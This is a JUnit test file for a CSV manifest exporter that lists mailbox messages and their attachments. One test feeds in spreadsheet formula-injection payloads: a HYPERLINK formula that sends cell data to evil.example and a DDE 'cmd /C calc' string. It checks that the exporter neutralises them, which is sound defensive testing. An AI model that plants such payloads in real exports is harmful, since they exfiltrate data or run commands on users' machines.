package org.ebox.web.messages;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class ZipManifestTest {

    private static final String SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

    @Test
    void commasQuotesAndLineBreaksInASubjectComeBackExactly() throws IOException {
        String subject = "Loonfiche 2026, \"definitief\"\r\ntweede regel\nderde; regel";
        ZipManifest manifest = new ZipManifest();
        manifest.file("m-1", subject, "2026-03-05 NSSO Loonfiche/loonfiche, \"2026\".pdf", 48213, SHA256);

        List<CSVRecord> rows = read(manifest);
        assertEquals(1, rows.size());
        assertEquals("m-1", rows.get(0).get("message_id"));
        assertEquals(subject, rows.get(0).get("subject"));
        assertEquals(
                "2026-03-05 NSSO Loonfiche/loonfiche, \"2026\".pdf", rows.get(0).get("file"));
        assertEquals("48213", rows.get(0).get("size_bytes"));
        assertEquals(SHA256, rows.get(0).get("sha256"));
    }

    @Test
    void aFormulaLikeSubjectIsReadBackAsTextBehindASingleQuote() throws IOException {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open, please\")";
        ZipManifest manifest = new ZipManifest();
        manifest.file("m-1", formula, "2026-03-05 NSSO _HYPERLINK/notice.pdf", 10, SHA256);
        manifest.notPickedUp("m-2", "@SUM(1+1)*cmd|' /C calc'!A0");
        manifest.file("m-3", "-1+1", "2026-03-05 NSSO -1+1/message.txt", 4, SHA256);

        List<CSVRecord> rows = read(manifest);
        assertEquals("'" + formula, rows.get(0).get("subject"));
        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", rows.get(1).get("subject"));
        assertEquals("'-1+1", rows.get(2).get("subject"));
        assertEquals("2026-03-05 NSSO -1+1/message.txt", rows.get(2).get("file"), "a formula sign inside is harmless");
    }

    @Test
    void registeredMailNotPickedUpIsListedWithoutFileSizeOrDigest() throws IOException {
        ZipManifest manifest = new ZipManifest();
        manifest.notPickedUp("m-9", "Aangetekende zending");

        CSVRecord row = read(manifest).get(0);
        assertEquals("m-9", row.get("message_id"));
        assertEquals(ZipManifest.NOT_PICKED_UP, row.get("file"));
        assertEquals("", row.get("size_bytes"));
        assertEquals("", row.get("sha256"));
    }

    @Test
    void everyCellIsQuotedAndEveryRowEndsWithCrLfAsRfc4180Has() {
        ZipManifest manifest = new ZipManifest();
        manifest.file("m-1", "Avis d'imposition", "2026-03-05 SPF Finances/avis.pdf", 7, SHA256);

        String text = new String(manifest.toUtf8(), StandardCharsets.UTF_8);
        assertEquals(
                "\"message_id\",\"subject\",\"file\",\"size_bytes\",\"sha256\"\r\n"
                        + "\"m-1\",\"Avis d'imposition\",\"2026-03-05 SPF Finances/avis.pdf\",\"7\",\"" + SHA256
                        + "\"\r\n",
                text);
    }

    @Test
    void accentsAreWrittenInUtf8() throws IOException {
        ZipManifest manifest = new ZipManifest();
        manifest.file("m-1", "Überweisung für März – été", "x/a.pdf", 1, SHA256);
        assertEquals("Überweisung für März – été", read(manifest).get(0).get("subject"));
        assertTrue(new String(manifest.toUtf8(), StandardCharsets.UTF_8).contains("Überweisung"));
    }

    /** Read back as a script would: the CSV library, the column names from the file's own first row. */
    private static List<CSVRecord> read(ZipManifest manifest) throws IOException {
        try (CSVParser parser = CSVParser.parse(
                new StringReader(new String(manifest.toUtf8(), StandardCharsets.UTF_8)),
                CSVFormat.RFC4180
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get())) {
            assertEquals(List.of("message_id", "subject", "file", "size_bytes", "sha256"), parser.getHeaderNames());
            return parser.getRecords();
        }
    }
}
